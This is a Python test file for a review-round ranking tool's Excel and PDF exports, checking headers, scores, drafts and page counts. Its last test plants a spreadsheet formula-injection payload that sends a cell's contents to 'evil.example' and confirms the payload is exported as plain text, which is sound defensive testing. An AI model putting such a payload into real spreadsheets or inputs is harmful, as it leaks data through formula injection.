"""Exports of a round: the ranking workbook (排名, 评分明细) and the PDF score sheets, panel summaries and blank
sheets, each opened again and read."""

from __future__ import annotations

import io
import re

import pytest
from openpyxl import load_workbook
from pypdf import PdfReader
from sqlalchemy import select

from tests.fonts import require_cjk_font
from tests.web.test_ranking_service import build_design_round, build_round, get_round, sheet_of
from web.extensions import db
from web.models import Application


@pytest.fixture
def round_id(app, make_application_record, make_expert_record):
    round_id = build_design_round(app, make_application_record, make_expert_record)
    with app.app_context():
        sheet_of(round_id, "P3", "E1").state = "draft"
        db.session.commit()
    return round_id


def pdf_text(content: bytes) -> tuple[int, str]:
    require_cjk_font()
    reader = PdfReader(io.BytesIO(content))
    return len(reader.pages), "\n".join(page.extract_text() for page in reader.pages)


def test_ranking_workbook(app, client, auth, round_id):
    auth.login("organizer")
    response = client.get(f"/rankings/rounds/{round_id}/export.xlsx")
    assert response.status_code == 200 and "attachment" in response.headers["Content-Disposition"]
    workbook = load_workbook(io.BytesIO(response.data))
    assert workbook.sheetnames == ["排名", "评分明细"]
    ranking = list(workbook["排名"].iter_rows(values_only=True))
    assert ranking[0][:4] == ("排名", "申报书编号", "中心名称", "得分")
    # P3 without E1's draft: (80 + 81 + 79 + 82) / 4 = 80.5, still fourth
    assert [row[1] for row in ranking[1:]] == ["P2", "P5", "P1", "P3", "P4"]
    by_ref = {row[1]: row for row in ranking[1:]}
    assert by_ref["P2"][0] == 1 and by_ref["P2"][3] == 88.0 and isinstance(by_ref["P2"][3], int | float)
    assert by_ref["P1"][3] == 83.6 and by_ref["P1"][4] == pytest.approx(78.0471) and by_ref["P1"][10] == "有条件推荐（待议或现场考察）"
    assert by_ref["P4"][10] == "不推荐" and by_ref["P2"][10] == "推荐"
    assert "E5" in by_ref["P1"][15] and "ROBUST" not in by_ref["P1"][15]    # flags as sentences
    detail = list(workbook["评分明细"].iter_rows(values_only=True))
    headers = detail[0]
    assert headers[:4] == ("申报书编号", "中心名称", "专家编号", "专家姓名")
    assert "技术路线、先进性与可行性（20分）" in headers and "技术路线、先进性与可行性 评语" in headers
    assert len(detail) == 1 + 35                                   # every sheet, drafts included
    rows = {(row[0], row[2]): dict(zip(headers, row, strict=True)) for row in detail[1:]}
    e5 = rows[("P1", "E5")]
    assert e5["总分"] == 60 and e5["计分情况"] == "去掉（最高/最低分）" and e5["总体意见"] == "推荐"
    assert sum(e5[f"{c}"] for c in headers if c.endswith("分）")) == 60
    assert e5["技术路线、先进性与可行性 评语"] == "技术路线清晰"
    assert rows[("P3", "E1")]["评分表状态"] == "草稿" and rows[("P3", "E1")]["计分情况"] == "未计入（未提交）"
    assert re.fullmatch(r"\d{4}-\d\d-\d\d \d\d:\d\d UTC\+8", e5["提交时间"])       # Beijing time, zone shown
    text = " ".join(str(cell) for row in detail + ranking for cell in row if cell is not None)
    assert "@example.com" not in text and "138" not in text       # no personal data


def test_score_sheets_pdf(app, client, auth, round_id):
    auth.login("organizer")
    response = client.get(f"/rankings/rounds/{round_id}/sheets.pdf", follow_redirects=True)
    assert response.status_code == 200 and response.mimetype == "application/pdf"
    pages, text = pdf_text(response.data)
    assert text.count("遴选综合评审专家评分表") == 34                  # one per submitted sheet (E1's P3 draft left out)
    assert text.count("专家组评分汇总表") == 5                          # one panel summary per application
    assert pages == 34 + 5
    assert "遴选综合评审专家评分表" in text and "专家组评分汇总表" in text
    assert "技术路线、先进性与可行性" in text and "风险分析与对策" in text
    assert "专家签名：" in text and "日期：" in text and "专家组组长签名：" in text
    assert f"第 1 页 共 {pages} 页" in text and f"第 {pages} 页 共 {pages} 页" in text
    assert "@example.com" not in text


def test_one_applications_sheets(app, client, auth, round_id):
    with app.app_context():
        p1 = db.session.scalar(select(Application.id).where(Application.ref == "P1"))
    auth.login("organizer")
    pages, text = pdf_text(client.get(f"/rankings/rounds/{round_id}/applications/{p1}/sheets.pdf").data)
    assert pages == 8 and "P1" in text and "P2" not in text.replace("P1", "")
    assert "83.60" in text and "去掉最低分 60（E5）和最高分 91（E4）" in text.replace("\n", "")


def test_blank_sheets_pdf(app, client, auth, round_id):
    with app.app_context():
        criterion = get_round(round_id).template.criteria[2]
        criterion.guidance = "技术路线是否清晰可行，关键技术是否具有先进性"
        db.session.commit()
    auth.login("organizer")
    pages, text = pdf_text(client.get(f"/rankings/rounds/{round_id}/blank.pdf", follow_redirects=True).data)
    assert pages == 5                                              # one page per application
    assert text.count("遴选综合评审专家评分表") == 5 and "评分指标及评分要点" in text
    assert "技术路线、先进性与可行性" in text and "技术路线是否清晰可行" in text and "□ 推荐" in text
    assert "按 0.5 分递增" in text and "合计 100" in text
    assert "专家签名：" in text and "日期：" in text and f"第 5 页 共 {pages} 页" in text


def test_a_round_without_sheets_still_renders_and_exports(app, client, auth, make_application_record,
                                                         make_expert_record):
    round_id = build_round(app, make_application_record, make_expert_record, {"Q1": [None], "Q2": [None]},
                           name="尚未评分")
    auth.login("organizer")
    html = client.get(f"/rankings/rounds/{round_id}").get_data(as_text=True)
    assert html.count("No submitted sheet yet.") == 2 or html.count("尚无已提交的评分表") == 2
    rows = list(load_workbook(io.BytesIO(client.get(f"/rankings/rounds/{round_id}/export.xlsx").data))["排名"]
                .iter_rows(min_row=2, values_only=True))
    assert [(row[0], row[1], row[-1]) for row in rows] == [(None, "Q1", "无已提交的评分表"), (None, "Q2", "无已提交的评分表")]
    pages, text = pdf_text(client.get(f"/rankings/rounds/{round_id}/sheets.pdf", follow_redirects=True).data)
    assert pages == 2 and text.count("尚无已提交的评分表") == 2


def test_an_expert_comment_never_becomes_a_formula(app, client, auth, round_id):
    from web.io.ranking_excel import ranking_csv
    from web.services.ranking import Options, round_ranking

    payload = '=HYPERLINK("https://evil.example/?"&B2,"详情")'
    with app.app_context():
        sheet_of(round_id, "P1", "E5").comment = payload
        db.session.commit()
        csv_text = ranking_csv(round_ranking(get_round(round_id), Options())).decode("utf-8-sig")
    assert "\n=" not in csv_text and ",=" not in csv_text
    auth.login("organizer")
    workbook = load_workbook(io.BytesIO(client.get(f"/rankings/rounds/{round_id}/export.xlsx").data))
    cells = [cell for row in workbook["评分明细"].iter_rows() for cell in row if cell.value == payload]
    assert cells and all(cell.data_type == "s" for cell in cells)
